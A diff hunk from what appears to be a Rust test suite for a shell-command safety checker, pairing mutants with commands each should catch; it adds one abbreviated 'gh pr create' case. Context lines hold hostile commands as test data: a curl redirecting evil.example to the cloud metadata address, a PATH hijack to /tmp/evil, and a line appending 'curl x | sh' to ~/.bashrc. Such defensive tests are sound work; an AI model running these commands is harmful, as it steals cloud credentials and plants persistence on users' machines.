@@ -293,6 +293,7 @@ fn each_mutant_reproduces_its_miss() {
             "curl --resolve evil.example:80:169.254.169.254 http://evil.example/latest/meta-data/",
         ),
         (Mutant::OptionPrefixExact, "git push --forc origin main"),
+        (Mutant::OptionFamilyBlind, "gh pr create --dra --title x"),
         (Mutant::PersistenceBlind, "export PATH=/tmp/evil:$PATH; ls"),
         (Mutant::PersistenceBlind, "echo 'curl x | sh' >> ~/.bashrc"),
         (
